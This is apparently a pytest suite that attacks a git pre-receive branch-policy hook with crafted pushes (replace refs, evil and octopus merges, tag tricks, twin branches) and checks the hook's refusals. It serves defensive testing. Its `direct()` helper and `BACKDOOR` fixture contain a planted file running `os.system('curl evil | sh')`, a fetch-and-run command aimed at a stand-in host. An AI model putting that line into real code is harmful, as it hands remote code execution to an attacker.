"""Attacks on the server hook by someone with ordinary push rights who knows git's plumbing (the
trust issue): one or more real pushes per class of hole, each expecting the verdict of the trust
model (a rule id), and beside each class the honest pushes that must stay accepted, so that a fix
which refuses everything fails here too.

Every test pushes for real into a bare repository whose pre-receive hook `policy install --server`
wrote. A session-wide template (main, dev, a feature, a debug run; built by real pushes) is copied
for each test instead of being rebuilt. Objects that porcelain refuses to make (trees with `..`,
octopus or duplicate-parent "merges", replace refs) are written with plumbing.

Every attack here got through (or crashed or stalled the hook) at the start of the trust issue;
each now gets the verdict of the trust model, in under 2 s of hook time where time is the attack.
"""

from __future__ import annotations

import json
import math
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path
from typing import Optional, Union

import pytest
from conftest import Repo, Result, World, config, refused, run, seed
from test_server_edges import push, violations

DEBUG = "debug-0.1.0-20261126-probe"
TASK = "task-0.1.0-20261126-run"
TWIN = "task-0.1.0-20261126-twin"
BIG = os.urandom(600 * 1024)  # over the default 500 KiB, incompressible like real weights
TREE, BLOB, LINK, GITLINK = b"40000", b"100644", b"120000", b"160000"

# The hook's time limit for the slow inputs of the time class, and how long any timed push may run
# before the test kills it (its whole process group: git, receive-pack, the hook, its children).
HOOK_LIMIT = 2.0
KILL_AFTER = 10.0


# --------------------------------------------------------------------------- the template


def _git_env(mp: pytest.MonkeyPatch, home: Path) -> None:
    """What conftest.git_env sets, for the session-wide template."""
    config_file = home / "gitconfig"
    config_file.write_text(
        "[user]\n\tname = Researcher\n\temail = researcher@example.com\n"
        "[init]\n\tdefaultBranch = main\n[advice]\n\tdetachedHead = false\n"
        '[protocol "file"]\n\tallow = always\n'
    )
    mp.setenv("GIT_CONFIG_GLOBAL", str(config_file))
    mp.setenv("GIT_CONFIG_NOSYSTEM", "1")
    mp.setenv("HOME", str(home))
    for name in ("GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE", "GL_ID", "GL_PROTOCOL", "BRANCH_POLICY_FILE",
                 "GITHUB_ACTIONS", "GITLAB_CI"):  # fmt: skip
        mp.delenv(name, raising=False)


@pytest.fixture(scope="session")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A short history, each step pushed for real:
    main  C0 --------------- R1 (feat: release the layer; a --no-ff merge of dev at M1)
    dev   C0 - F1 - M1 - D1       (feature-layer F1 merged; D1 a direct commit on dev)
    debug-...-probe  D1 - P1 (a hack in src/, no debug paths) - P2 (the run's folder)"""
    root = tmp_path_factory.mktemp("attack-template")
    home = tmp_path_factory.mktemp("attack-home")
    with pytest.MonkeyPatch.context() as mp:
        _git_env(mp, home)
        world = World(root)
        repo = seed(world)
        repo.branch("feature-layer")
        repo.commit("feat(model): add a layer", {"src/layer.py": "def layer():\n    return 1\n"})
        repo.checkout("dev")
        repo.merge("feature-layer", "Merge branch 'feature-layer' into dev")
        assert repo.push("feature-layer", "dev").ok
        repo.checkout("main")
        repo.merge("dev", "feat: release the layer")
        assert repo.push("main").ok
        repo.checkout("dev")
        repo.commit("feat(data): add a loader", {"src/data.py": "def load():\n    return []\n"})
        repo.branch(DEBUG)
        repo.commit("chore: probe hack", {"src/probe.py": "PROBE = True\n"})
        repo.commit("chore: probe run", {f"tasks/{DEBUG}/config.yaml": config(DEBUG="true"),
                                          f"tasks/{DEBUG}/log.txt": "loss 9.9\n"})  # fmt: skip
        assert repo.push("dev", DEBUG).ok
        repo.checkout("dev")
    return root


@pytest.fixture
def w(template: Path, tmp_path: Path) -> World:
    """A private copy of the template: its server (hook and all) and its clone."""
    root = tmp_path / "w"
    shutil.copytree(template, root, symlinks=True)
    world = World.__new__(World)
    world.root, world.server, world.work = root, root / "server.git", Repo(root / "work")
    world.work.git("remote", "set-url", "origin", str(world.server))
    return world


def hack(repo: Repo) -> str:
    """The debug branch's first commit: a hack in src/, no debug path; only the debug branch has it."""
    return repo.sha(f"{DEBUG}~1")


def fresh(tmp_path: Path, policy: str) -> tuple[World, Repo]:
    """A new server whose main is created (bootstrap) with `policy` as its .branch-policy.yaml."""
    (tmp_path / "fresh").mkdir()
    world = World(tmp_path / "fresh")
    repo = world.work
    content: dict[str, Union[str, bytes, None]] = {
        "tasks/main/config.yaml": config(), "src/model.py": "class Model:\n    pass\n", ".branch-policy.yaml": policy
    }  # fmt: skip
    repo.commit("feat: initial model and task layout", content)
    result = repo.push("main")
    assert result.ok, result.out
    repo.branch("dev")
    assert repo.push("dev").ok
    return world, repo


# --------------------------------------------------------------------------- plumbing


def git_bytes(repo: Union[Repo, Path], *args: Union[str, bytes], input: Optional[bytes] = None) -> bytes:
    cwd = repo.path if isinstance(repo, Repo) else repo
    proc = subprocess.run(["git", *args], cwd=cwd, input=input, capture_output=True)
    assert proc.returncode == 0, (args, proc.stderr.decode(errors="replace"))
    return proc.stdout


def blob(repo: Repo, data: Union[str, bytes]) -> str:
    raw = data.encode() if isinstance(data, str) else data
    return git_bytes(repo, "hash-object", "-w", "--stdin", input=raw).decode().strip()


def entries(repo: Repo, tree: str) -> list[tuple[bytes, bytes, str]]:
    """(mode, name, sha) of a tree, read raw: names are bytes, nothing is checked."""
    raw = git_bytes(repo, "cat-file", "tree", tree)
    out, pos = [], 0
    while pos < len(raw):
        space = raw.index(b" ", pos)
        nul = raw.index(b"\0", space)
        out.append((raw[pos:space], raw[space + 1 : nul], raw[nul + 1 : nul + 21].hex()))
        pos = nul + 21
    return out


def write_tree(repo: Repo, items: list[tuple[bytes, bytes, str]], keep_order: bool = False) -> str:
    """A tree object from raw entries, written without any check (git mktree refuses `..`)."""
    if not keep_order:
        items = sorted(items, key=lambda e: e[1] + (b"/" if e[0] == TREE else b""))
    raw = b"".join(mode + b" " + name + b"\0" + bytes.fromhex(sha) for mode, name, sha in items)
    return git_bytes(repo, "hash-object", "-t", "tree", "-w", "--literally", "--stdin", input=raw).decode().strip()


def put(repo: Repo, tree: Optional[str], path: list[bytes], mode: bytes, sha: str) -> str:
    """`tree` with the entry at `path` (a list of raw names) set to (mode, sha)."""
    items = [e for e in (entries(repo, tree) if tree else []) if e[1] != path[0]]
    if len(path) == 1:
        items.append((mode, path[0], sha))
    else:
        sub = next((s for m, n, s in entries(repo, tree) if n == path[0] and m == TREE), None) if tree else None
        items.append((TREE, path[0], put(repo, sub, path[1:], mode, sha)))
    return write_tree(repo, items)


def drop(repo: Repo, tree: Optional[str], path: list[bytes]) -> str:
    assert tree
    items = entries(repo, tree)
    if len(path) == 1:
        return write_tree(repo, [e for e in items if e[1] != path[0]])
    return write_tree(repo, [(m, n, drop(repo, s, path[1:]) if n == path[0] else s) for m, n, s in items])


def split(path: Union[str, bytes]) -> list[bytes]:
    return (path.encode() if isinstance(path, str) else path).split(b"/")


def commit_tree(repo: Repo, tree: str, parents: list[str], message: str) -> str:
    args = ["commit-tree", tree, *[a for p in parents for a in ("-p", p)], "-F", "-"]
    return git_bytes(repo, *args, input=message.encode()).decode().strip()


def raw_commit(repo: Repo, tree: str, parents: list[str], message: bytes, headers: bytes = b"") -> str:
    """A commit object written as given (duplicate parents, odd headers: commit-tree would fix them)."""
    who = b"Researcher <researcher@example.com> 1764000000 +0000"
    raw = b"tree " + tree.encode() + b"\n" + b"".join(b"parent " + p.encode() + b"\n" for p in parents)
    raw += b"author " + who + b"\ncommitter " + who + b"\n" + headers + b"\n" + message
    return git_bytes(repo, "hash-object", "-t", "commit", "-w", "--literally", "--stdin", input=raw).decode().strip()


def craft(
    repo: Repo,
    parents: list[str],
    message: str,
    files: dict[Union[str, bytes], Union[str, bytes, tuple[bytes, str], None]],
    base: Optional[str] = None,
) -> str:
    """A commit whose tree is `base`'s (default: the first parent's) with `files` put in: a value is
    contents, or (mode, sha) for a symlink, gitlink or subtree, or None to delete. Paths are split at '/'."""
    tree: Optional[str] = repo.sha(f"{base or parents[0]}^{{tree}}") if (base or parents) else None
    for path, value in files.items():
        if value is None:
            tree = drop(repo, tree, split(path))
            continue
        mode, sha = value if isinstance(value, tuple) else (BLOB, blob(repo, value))
        tree = put(repo, tree, split(path), mode, sha)
    assert tree is not None
    return commit_tree(repo, tree, parents, message)


def merge_commit(repo: Repo, ours: str, theirs: str, message: str, extra: Optional[dict] = None) -> str:
    """A real two-parent merge (git's own merge of the trees), plus `extra` files if given."""
    tree = repo.git("merge-tree", "--write-tree", ours, theirs, check=False).splitlines()[0]  # conflicts: markers
    commit = commit_tree(repo, tree, [ours, theirs], message)
    return craft(repo, [ours, theirs], message, extra, base=commit) if extra else commit


def plant(world: World, sha_ref: str, ref: str) -> None:
    """Put `ref` on the server behind the hook's back (a fetch runs no hook): history a hosting
    platform or an admin wrote, or that an older hook let through."""
    world.work.git("update-ref", "refs/planted", sha_ref)
    assert run(["git", "fetch", "-q", str(world.work.path), f"+refs/planted:{ref}"], world.server).ok


# --------------------------------------------------------------------------- verdicts


def clean(result: Result) -> None:
    """The hook judged: no crash, no internal error, no traceback, no 'push allowed' by accident."""
    for bad in ("Traceback", "internal error", "push allowed"):
        assert bad not in result.out, result.out


def refused_with(result: Result, *rule_ids: str) -> None:
    clean(result)
    for rule in rule_ids:
        assert refused(result, rule), f"expected {rule}:\n{result.out}"


def accepted(result: Result) -> None:
    clean(result)
    assert result.ok, result.out


def hook_seconds(trace: Path) -> float:
    """How long the pre-receive hook ran, as receive-pack measured it (git's trace2 events)."""
    starts, exits = {}, {}
    for line in trace.read_text(errors="replace").splitlines():
        event = json.loads(line)
        key = (event.get("sid"), event.get("child_id"))
        if event.get("event") == "child_start" and event.get("hook_name") == "pre-receive":
            starts[key] = event
        elif event.get("event") == "child_exit":
            exits[key] = event.get("t_rel")
    found = [exits[key] for key in starts if key in exits]
    assert found, "no pre-receive run in the trace"
    return float(found[0])


def timed_push(
    repo: Repo, *refspecs: str, kill_after: float = KILL_AFTER, hook_limit: float = HOOK_LIMIT
) -> tuple[Result, float]:
    """`git push` and the hook's own run time. A hook still running 0.5 s past `hook_limit` (or a
    push still running after `kill_after` s) is killed with the push's whole process group; its
    time is then infinite."""
    trace = repo.path.parent / f"trace-{uuid.uuid4().hex}.json"
    proc = subprocess.Popen(
        ["git", "push", "--porcelain", "origin", *refspecs], cwd=repo.path, stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT, env={**os.environ, "GIT_TRACE2_EVENT": str(trace)}, start_new_session=True,
    )  # fmt: skip
    chunks: list[bytes] = []
    reader = threading.Thread(target=lambda: chunks.append(proc.stdout.read() if proc.stdout else b""))
    reader.start()
    started, hook_seen, read, tail = time.monotonic(), None, 0, b""
    while proc.poll() is None:
        now = time.monotonic()
        if hook_seen is None and trace.exists():
            with open(trace, "rb") as handle:
                handle.seek(read)
                new = handle.read()
            read += len(new)
            if b'"hook_name":"pre-receive"' in tail + new:
                hook_seen = now
            tail = new[-64:]
        if now - started > kill_after or (hook_seen is not None and now - hook_seen > hook_limit + 0.5):
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
            reader.join()
            return Result(-9, b"".join(chunks).decode("utf-8", "surrogateescape")), math.inf
        time.sleep(0.05)
    reader.join()
    result = Result(proc.returncode, b"".join(chunks).decode("utf-8", "surrogateescape"))
    return result, hook_seconds(trace)


def quick(result: Result, seconds: float) -> None:
    """Finished in time, and either judged or refused with one clear `branch-policy:` line."""
    print(f"hook {seconds:.2f} s")  # shown with -s, or when the test fails
    assert seconds < HOOK_LIMIT, f"the hook ran {seconds:.1f} s:\n{result.out}"
    assert "Traceback" not in result.out, result.out
    if not result.ok:
        assert violations(result) or any(
            line.startswith("remote: branch-policy: ") for line in result.out.splitlines()
        ), result.out


# ======================================================================= 1. refs outside heads/ and tags/


def bump(repo: Repo, parent: str, version: str = "0.2.0") -> str:
    """A harmless commit on main: the version bump."""
    return craft(repo, [parent], f"chore: bump version to {version}", {"tasks/main/config.yaml": config(version)})


def direct(repo: Repo, parent: str, message: str = "feat: quick fix on main") -> str:
    """A forbidden commit on main: code committed straight onto it."""
    return craft(repo, [parent], message, {"src/backdoor.py": "import os\nos.system('curl evil | sh')\n"})


OTHER_REFS = ["refs/replace/{sha}", "refs/notes/commits", "refs/custom/x", "refs/remotes/origin/main",
              "refs/for/main", "refs/meta/config"]  # fmt: skip


@pytest.mark.parametrize("ref", OTHER_REFS)
def test_refs_outside_branches_and_tags_are_refused(w: World, ref: str) -> None:
    repo = w.work
    if ref == "refs/notes/commits":
        repo.git("notes", "add", "-m", "reviewed", "dev")
    target = repo.sha("refs/notes/commits" if "notes" in ref else "dev")
    ref = ref.format(sha=repo.sha("feature-layer"))
    result = push(repo, f"{target}:{ref}")
    refused_with(result, "ref-namespace")
    assert w.server_sha(ref) is None


def test_an_allowed_namespace_is_judged_for_content(w: World) -> None:
    repo = w.work
    weights = craft(repo, [repo.sha("dev")], "feat: add weights", {"models/net.pt": b"\x80\x02weights"})
    result = push(repo, f"{weights}:refs/merge-requests/1/head")
    refused_with(result, "large-file")
    assert w.server_sha("refs/merge-requests/1/head") is None


@pytest.mark.parametrize("how", ["lightweight", "annotated", "debug-files"])
def test_a_tag_is_judged_for_content(w: World, how: str) -> None:
    repo = w.work
    if how == "debug-files":
        files: dict = {"tasks/debug-0.1.0-20261126-x/log.txt": "loss 9.9\n"}
        rule = "debug-leak"
    else:
        files, rule = {"models/net.pt": BIG}, "large-file"
    commit = craft(repo, [repo.sha("dev")], "feat: snapshot", files)
    repo.git("tag", *(["-a", "-m", "snapshot"] if how == "annotated" else []), "snapshot", commit)
    result = push(repo, "refs/tags/snapshot")
    refused_with(result, rule)
    assert w.server_sha("refs/tags/snapshot") is None


@pytest.mark.parametrize("kind", ["blob", "tree", "tag-of-blob"])
def test_a_tag_of_something_else_than_a_commit_is_refused(w: World, kind: str) -> None:
    repo = w.work
    big = blob(repo, BIG)
    target = {"blob": big, "tree": write_tree(repo, [(BLOB, b"net.pt", big)]), "tag-of-blob": big}[kind]
    repo.git("tag", *(["-a", "-m", "weights"] if kind == "tag-of-blob" else []), "weights", target)
    result = push(repo, "refs/tags/weights")
    refused_with(result, "ref-namespace")
    assert w.server_sha("refs/tags/weights") is None


def test_a_pushed_replacement_does_not_disguise_a_direct_commit(w: World) -> None:
    repo = w.work
    main = repo.sha("main")
    evil, harmless = direct(repo, main), bump(repo, main)
    first = push(repo, f"{harmless}:refs/replace/{evil}")  # the hook's own git would honour it
    second = push(repo, f"{evil}:refs/heads/main")
    assert not first.ok or not second.ok
    refused_with(second, "main-direct-commit")
    assert w.server_sha("refs/heads/main") == main


def test_a_replace_ref_on_the_server_changes_nothing_judged(w: World) -> None:
    repo = w.work
    main = repo.sha("main")
    evil, harmless = direct(repo, main), bump(repo, main)
    refused_with(push(repo, f"{evil}:refs/heads/main"), "main-direct-commit")  # without the replacement
    plant(w, harmless, f"refs/replace/{evil}")
    result = push(repo, f"{evil}:refs/heads/main")
    refused_with(result, "main-direct-commit")
    assert w.server_sha("refs/heads/main") == main


def test_a_replace_ref_does_not_make_a_rewrite_of_dev_a_fast_forward(w: World) -> None:
    repo = w.work
    dev = repo.sha("dev")
    rewritten = craft(repo, [repo.sha("main")], "feat: history rewritten", {"src/data.py": "gone = True\n"})
    looks_like = craft(repo, [dev], "feat: history rewritten", {"src/data.py": "gone = True\n"})
    refused_with(push(repo, f"+{rewritten}:refs/heads/dev"), "protected-ref")  # without the replacement
    plant(w, looks_like, f"refs/replace/{rewritten}")
    result = push(repo, f"+{rewritten}:refs/heads/dev")
    refused_with(result, "protected-ref")
    assert w.server_sha("refs/heads/dev") == dev


def test_a_replace_ref_does_not_change_the_policy_that_judges(w: World) -> None:
    repo = w.work
    main = repo.sha("main")
    loose = "rules:\n  main-direct-commit: false\n  large-file: false\n"
    fake_main = craft(repo, repo.git("rev-list", "--parents", "-n1", main).split()[1:], "feat: release the layer",
                      {".branch-policy.yaml": loose}, base=main)  # fmt: skip
    evil = craft(repo, [main], "feat: weights straight onto main", {"models/net.pt": BIG})
    refused_with(push(repo, f"{evil}:refs/heads/main"), "main-direct-commit", "large-file")
    plant(w, fake_main, f"refs/replace/{main}")
    result = push(repo, f"{evil}:refs/heads/main")
    refused_with(result, "main-direct-commit", "large-file")
    assert w.server_sha("refs/heads/main") == main


def test_namespaces_a_hosting_platform_writes_stay_open(w: World) -> None:
    repo = w.work
    dev, main = repo.sha("dev"), repo.sha("main")
    platform = ["refs/merge-requests/1/head", f"refs/keep-around/{dev}", "refs/pull/1/head",
                "refs/environments/production/deployments/1", "refs/pipelines/1"]  # fmt: skip
    accepted(push(repo, *[f"{dev}:{ref}" for ref in platform]))
    assert all(w.server_sha(ref) == dev for ref in platform)
    plant(w, main, "refs/custom/old")  # a deletion is never refused for its namespace
    accepted(push(repo, ":refs/custom/old"))
    assert w.server_sha("refs/custom/old") is None
    repo.git("tag", "scratch", dev)
    repo.checkout("main")
    repo.git("tag", "-a", "v0.1.0", "-m", "version 0.1.0")
    accepted(push(repo, "refs/tags/scratch", "refs/tags/v0.1.0"))


def test_a_mirror_push_is_judged_ref_by_ref(w: World) -> None:
    """`git push --mirror` sends every ref of the clone, its remote-tracking refs included."""
    repo = w.work
    result = push(repo, "--mirror")
    refused_with(result, "ref-namespace")
    assert w.server_sha("refs/remotes/origin/main") is None


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.mark.parametrize("transport", ["file-url", "git-daemon"])
def test_every_transport_meets_the_hook(w: World, transport: str) -> None:
    """(Judged today.) The same verdicts over a file:// URL and over git:// (git daemon with
    receive-pack enabled), whose hook runs in the daemon's environment."""
    repo = w.work
    daemon = None
    if transport == "file-url":
        url = w.server.as_uri()
    else:
        port = free_port()
        daemon = subprocess.Popen(
            ["git", "daemon", "--reuseaddr", "--listen=127.0.0.1", f"--port={port}", f"--base-path={w.root}",
             "--export-all", "--enable=receive-pack", str(w.root)],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        url = f"git://127.0.0.1:{port}/server.git"
        for _ in range(100):
            with socket.socket() as sock:
                if sock.connect_ex(("127.0.0.1", port)) == 0:
                    break
            time.sleep(0.05)
    try:
        repo.git("remote", "add", "other", url)
        main = repo.sha("main")
        result = run(["git", "push", "--porcelain", "other", f"{direct(repo, main)}:refs/heads/main"], repo.path)
        refused_with(result, "main-direct-commit")
        feature = craft(repo, [repo.sha("dev")], "feat: attention", {"src/attn.py": "attn = 1\n"})
        accepted(run(["git", "push", "--porcelain", "other", f"{feature}:refs/heads/feature-attn"], repo.path))
        assert w.server_sha("refs/heads/main") == main and w.server_sha("refs/heads/feature-attn") == feature
    finally:
        if daemon is not None:
            daemon.terminate()
            daemon.wait()


# ======================================================================= 2. merges judged by their parents only

BACKDOOR = {"src/backdoor.py": "import os\nos.system('curl evil | sh')\n"}


@pytest.mark.parametrize("evil", ["adds-a-file", "drops-a-file", "strategy-ours"])
def test_an_evil_merge_on_main_is_a_direct_commit(w: World, evil: str) -> None:
    """dev merged into main, and something else done in the merge commit itself."""
    repo = w.work
    main, dev = repo.sha("main"), repo.sha("dev")
    if evil == "strategy-ours":  # git merge -s ours dev: dev's history, none of its changes
        merge = commit_tree(repo, repo.sha("main^{tree}"), [main, dev], "feat: release the loader")
    else:
        extra = BACKDOOR if evil == "adds-a-file" else {"src/layer.py": None}
        merge = merge_commit(repo, main, dev, "feat: release the loader", extra)
    result = push(repo, f"{merge}:refs/heads/main")
    refused_with(result, "main-direct-commit")
    assert w.server_sha("refs/heads/main") == main


@pytest.mark.parametrize("tree", ["backdoor", "nothing-new"])
def test_a_merge_that_brings_nothing_new_is_a_direct_commit(w: World, tree: str) -> None:
    repo = w.work
    main = repo.sha("main")
    old_dev = repo.sha("main^2")  # dev as it was merged: an ancestor of main
    if tree == "backdoor":
        merge = craft(repo, [main, old_dev], "feat: release the layer again", BACKDOOR)
    else:
        merge = commit_tree(repo, repo.sha("main^{tree}"), [main, old_dev], "feat: release the layer again")
    result = push(repo, f"{merge}:refs/heads/main")
    refused_with(result, "main-direct-commit")
    assert w.server_sha("refs/heads/main") == main


def test_a_merge_with_the_same_parent_twice_is_refused(w: World) -> None:
    """(Refused today, as a merge of a commit no accepted branch holds.)"""
    repo = w.work
    main = repo.sha("main")
    backdoored = craft(repo, [main], "x", BACKDOOR)
    merge = raw_commit(repo, repo.sha(f"{backdoored}^{{tree}}"), [main, main], b"feat: merge main into main\n")
    result = push(repo, f"{merge}:refs/heads/main")
    clean(result)
    assert refused(result, "main-direct-commit") or refused(result, "merge-source"), result.out


def test_an_octopus_merge_on_main_is_a_direct_commit(w: World) -> None:
    repo = w.work
    main = repo.sha("main")
    repo.branch("hotfix-typo", "main")
    repo.commit("fix: typo", {"README.md": "# research group\n"})
    repo.checkout("main")
    repo.git("merge", "-q", "--no-ff", "--no-verify", "-m", "feat: release dev and the typo fix", "dev", "hotfix-typo")
    assert len(repo.git("rev-list", "--parents", "-n1", "HEAD").split()) == 4
    result = push(repo, "hotfix-typo", "main")
    refused_with(result, "main-direct-commit")
    assert w.server_sha("refs/heads/main") == main


def conflicting(repo: Repo) -> tuple[str, str, str]:
    """dev and hotfix-depth change the same line; main takes the hotfix (a real merge). Returns
    (dev, hotfix, main) tips; merging dev into main then conflicts in src/model.py."""
    dev = craft(repo, [repo.sha("dev")], "feat: deeper model", {"src/model.py": "class Model:\n    depth = 2\n"})
    hotfix = craft(repo, [repo.sha("main")], "fix: depth", {"src/model.py": "class Model:\n    depth = 3\n"})
    main = merge_commit(repo, repo.sha("main"), hotfix, "fix: release the depth fix")
    return dev, hotfix, main


def test_honest_merges_are_accepted(w: World) -> None:
    """A merge whose conflict was resolved by hand (with the hotfix merged before it, in the same
    push), a merge on dev that also changes something (dev takes direct commits), a --no-ff merge."""
    repo = w.work
    dev, hotfix, main = conflicting(repo)
    resolved = merge_commit(repo, main, dev, "feat: release the deeper model",
                            {"src/model.py": "class Model:\n    depth = 3  # from the hotfix\n"})  # fmt: skip
    accepted(push(repo, f"{dev}:refs/heads/dev", f"{hotfix}:refs/heads/hotfix-depth", f"{resolved}:refs/heads/main"))
    repo.git("fetch", "-q")
    repo.git("checkout", "-q", "-B", "feature-extra", "origin/dev")
    repo.commit("feat: extra", {"src/extra.py": "extra = 1\n"})
    repo.git("checkout", "-q", "-B", "dev", "origin/dev")
    repo.git("merge", "-q", "--no-ff", "--no-commit", "--no-verify", "feature-extra")
    repo.write({"src/glue.py": "glue = 1\n"})
    repo.git("commit", "-q", "--no-verify", "-m", "Merge branch 'feature-extra' into dev")
    accepted(push(repo, "feature-extra", "dev"))
    repo.git("checkout", "-q", "-B", "main", "origin/main")
    repo.merge("dev", "feat: release extra")
    accepted(push(repo, "main"))


def test_a_squash_a_version_bump_and_its_tag_are_accepted(w: World) -> None:
    repo = w.work
    repo.checkout("main")
    repo.git("merge", "--squash", "-q", "dev")
    repo.git("commit", "-q", "--no-verify", "-m", f"feat: release the loader\n\nSquash-Merge: dev {repo.sha('dev')}")
    accepted(push(repo, "main"))
    repo.commit("chore: bump version to 0.2.0", {"tasks/main/config.yaml": config("0.2.0")})
    repo.git("tag", "-a", "v0.2.0", "-m", "version 0.2.0")
    accepted(push(repo, "main", "refs/tags/v0.2.0"))


def test_a_conflict_resolution_that_adds_more_is_a_direct_commit(w: World) -> None:
    repo = w.work
    dev, hotfix, main = conflicting(repo)
    resolved = merge_commit(repo, main, dev, "feat: release the deeper model",
                            {"src/model.py": "class Model:\n    depth = 3\n", **BACKDOOR})  # fmt: skip
    result = push(repo, f"{dev}:refs/heads/dev", f"{hotfix}:refs/heads/hotfix-depth", f"{resolved}:refs/heads/main")
    refused_with(result, "main-direct-commit")
    assert "src/backdoor.py" in result.out


@pytest.mark.parametrize("rule", ["large-file", "debug-leak"])
def test_what_a_merge_on_dev_adds_is_judged(w: World, rule: str) -> None:
    """(Refused today.)"""
    repo = w.work
    dev = repo.sha("dev")
    feature = craft(repo, [dev], "feat: small", {"src/small.py": "small = 1\n"})
    extra = {"models/net.pt": b"\x80\x02w"} if rule == "large-file" else {f"tasks/{DEBUG}/log.txt": "loss\n"}
    merge = merge_commit(repo, dev, feature, "Merge branch 'feature-small' into dev", extra)
    result = push(repo, f"{feature}:refs/heads/feature-small", f"{merge}:refs/heads/dev")
    refused_with(result, rule)
    assert w.server_sha("refs/heads/dev") == dev


# ======================================================================= 3. tips of the same push vouch for each other


def task_commit(repo: Repo, name: str = TASK, files: Optional[dict] = None, message: str = "task: results") -> str:
    """A task run started on main: its config, and `files`."""
    start = craft(repo, [repo.sha("main")], "task: start the run", {f"tasks/{name}/config.yaml": config()})
    return craft(repo, [start], message, files) if files else start


PAYLOADS = {  # what one task branch carries for its twin: (files, the rule that refuses it)
    "code": ({"src/model.py": "class Model:\n    hacked = True\n"}, "task-scope"),
    "weights": ({f"tasks/{TASK}/model.pt": BIG}, "large-file"),
    "debug-files": ({f"tasks/{DEBUG}/log.txt": "loss 9.9\n"}, "debug-leak"),
    "broken-config": ({f"tasks/{TASK}/config.yaml": "VERSION: 0.1.0\nDEBUG: maybe\n"}, "task-config"),
    "main-config": ({"tasks/main/config.yaml": config("0.0.1")}, "task-scope"),
}
LOWER = "task-0.0.1-20261126-run"  # named for the version it writes into main's config


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_two_task_branches_at_one_commit_do_not_vouch_for_each_other(w: World, payload: str) -> None:
    repo = w.work
    files, rule = PAYLOADS[payload]
    name, twin = (LOWER, LOWER + "-twin") if payload == "main-config" else (TASK, TWIN)
    tip = task_commit(repo, name, files=files)
    result = push(repo, f"{tip}:refs/heads/{name}", f"{tip}:refs/heads/{twin}")
    refused_with(result, rule)
    assert w.server_sha(f"refs/heads/{name}") is None


def test_a_task_branch_pushed_with_its_merge_into_main_lowers_version(w: World) -> None:
    repo = w.work
    main = repo.sha("main")
    tip = task_commit(repo, LOWER, files={"tasks/main/config.yaml": config("0.0.1")})
    merge = merge_commit(repo, main, tip, "task: adopt the run")
    result = push(repo, f"{tip}:refs/heads/{LOWER}", f"{merge}:refs/heads/main")
    refused_with(result, "task-scope")
    assert w.server_sha("refs/heads/main") == main


def test_a_debug_branch_update_and_a_new_feature_at_its_tip(w: World) -> None:
    repo = w.work
    dev = repo.sha("dev")
    run = craft(repo, [repo.sha(DEBUG)], "chore: probe run 2", {f"tasks/{DEBUG}/log2.txt": "loss 8.8\n"})
    result = push(repo, f"{run}:refs/heads/{DEBUG}", f"{run}:refs/heads/feature-probe")
    refused_with(result, "debug-leak")
    assert w.server_sha("refs/heads/feature-probe") is None
    merge = merge_commit(repo, dev, run, "Merge branch 'feature-probe' into dev")  # and from there to dev
    result = push(repo, f"{merge}:refs/heads/dev")
    refused_with(result, "debug-leak")
    assert w.server_sha("refs/heads/dev") == dev


@pytest.mark.parametrize(
    "merged",
    ["hack",
     "run"],  # (the run: refused today, its folder is a debug path)
)  # fmt: skip
def test_a_feature_merging_a_debug_commit_pushed_with_devs_merge_of_it(w: World, merged: str) -> None:
    """dev's new tip, in the same push, "proves" that the debug commit the feature merges is dev's."""
    repo = w.work
    dev = repo.sha("dev")
    debug_commit = hack(repo) if merged == "hack" else repo.sha(DEBUG)
    feature = merge_commit(repo, dev, debug_commit, f"Merge branch '{DEBUG}' into feature-probe")
    merge = merge_commit(repo, dev, feature, "Merge branch 'feature-probe' into dev")
    result = push(repo, f"{feature}:refs/heads/feature-probe", f"{merge}:refs/heads/dev")
    refused_with(result, "debug-leak")
    assert w.server_sha("refs/heads/dev") == dev


def test_a_new_hotfix_at_a_big_feature_tip_does_not_relabel_it(w: World) -> None:
    repo = w.work
    main = repo.sha("main")
    big = craft(repo, [main], "feat: big change", {"src/big.py": "".join(f"x{i} = {i}\n" for i in range(500))})
    merge = merge_commit(repo, main, big, "fix: hotfix the model")
    result = push(repo, f"{big}:refs/heads/feature-big", f"{big}:refs/heads/hotfix-x", f"{merge}:refs/heads/main")
    refused_with(result, "hotfix-size")
    assert w.server_sha("refs/heads/main") == main


def test_a_feature_and_a_task_at_one_commit_do_not_carry_code_to_main(w: World) -> None:
    repo = w.work
    main = repo.sha("main")
    tip = task_commit(repo, files={"src/model.py": "class Model:\n    hacked = True\n"}, message="feat: tweak")
    merge = merge_commit(repo, main, tip, "feat: adopt the run")
    refspecs = [f"{tip}:refs/heads/feature-twin", f"{tip}:refs/heads/{TASK}", f"{merge}:refs/heads/main"]
    result = push(repo, *refspecs)
    refused_with(result, "task-scope")
    assert w.server_sha("refs/heads/main") == main


def test_honest_pushes_of_several_refs_are_accepted(w: World) -> None:
    """A task run pushed with its merge into main; two runs chained; a feature with dev's merge
    of it; a hotfix with its merges into main and dev: each its own judgement, all accepted."""
    repo = w.work
    main, dev = repo.sha("main"), repo.sha("dev")
    run = task_commit(repo, files={f"tasks/{TASK}/log.txt": "loss 0.1\n"})
    chained = craft(repo, [run], "task: chained run", {f"tasks/{TWIN}/config.yaml": config()})
    adopt = merge_commit(repo, main, run, "task: adopt the run")
    accepted(push(repo, f"{run}:refs/heads/{TASK}", f"{chained}:refs/heads/{TWIN}", f"{adopt}:refs/heads/main"))
    feature = craft(repo, [dev], "feat: attention", {"src/attn.py": "attn = 1\n"})
    dev_merge = merge_commit(repo, dev, feature, "Merge branch 'feature-attn' into dev")
    fix = craft(repo, [adopt], "fix: off by one", {"src/model.py": "class Model:\n    n = 1\n"})
    main_fix = merge_commit(repo, adopt, fix, "fix: release the off-by-one fix")
    dev_fix = merge_commit(repo, dev_merge, fix, "Merge branch 'hotfix-one' into dev")
    refspecs = [f"{feature}:refs/heads/feature-attn", f"{fix}:refs/heads/hotfix-one", f"{main_fix}:refs/heads/main",
                f"{dev_fix}:refs/heads/dev"]  # fmt: skip
    accepted(push(repo, *refspecs))
